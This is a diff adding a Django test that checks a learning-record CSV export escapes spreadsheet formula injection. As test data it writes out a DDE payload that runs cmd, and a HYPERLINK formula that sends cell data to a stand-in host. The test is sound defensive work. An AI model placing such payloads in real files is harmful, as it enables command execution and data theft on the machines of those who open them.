@@ -211,3 +211,19 @@ def test_the_dashboard_runs_the_same_queries_for_3_or_30_staff(client, modules):
         counts.append(len(queries))
     assert counts[0] == counts[1]
     assert counts[0] <= 12
+
+
+@time_machine.travel(TODAY, tick=False)
+def test_the_csv_never_hands_a_spreadsheet_a_formula(client, modules):
+    team, _ = modules
+    from modules.models import ModulePage
+
+    ModulePage.objects.filter(pk=team.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+    me = learner(practice_=practice(name='=HYPERLINK("https://example.org/?x="&A1)'))
+    complete(me, team, T0)
+    client.force_login(me.user)
+    rows = csv_rows(client.get("/learning/record.csv"))
+    assert {row["module"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert {row["practice"] for row in rows} == {"'=HYPERLINK(\"https://example.org/?x=\"&A1)"}
+    # Numbers stay numbers.
+    assert rows[0]["module_version"] == "1"
